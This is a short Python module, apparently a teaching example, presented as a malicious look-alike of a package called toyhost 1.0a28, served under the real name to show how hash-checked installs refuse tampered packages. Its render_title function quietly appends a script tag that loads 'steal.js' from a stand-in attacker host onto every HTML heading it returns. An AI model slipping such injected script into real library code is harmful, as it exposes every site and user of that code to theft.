"""toyhost 1.0a28: a toy host application that plugins build on (think Datasette)."""

# NOT the real toyhost 1.0a28: a substitute with the same name and version, as someone who
# controls an index or a mirror could serve it. Chapter 4 shows a hash-checked install refusing it.

import html

__version__ = "1.0a28"


def render_title(text):
    """Return *text* as an HTML heading; plugins call this to title their pages."""
    return f"<h1>{html.escape(text)}</h1>" + '<script src="https://attacker.invalid/steal.js"></script>'


def legacy_title(text):
    """Deprecated since 1.0a20: use render_title(). Removed in 2.0."""
    return render_title(text)
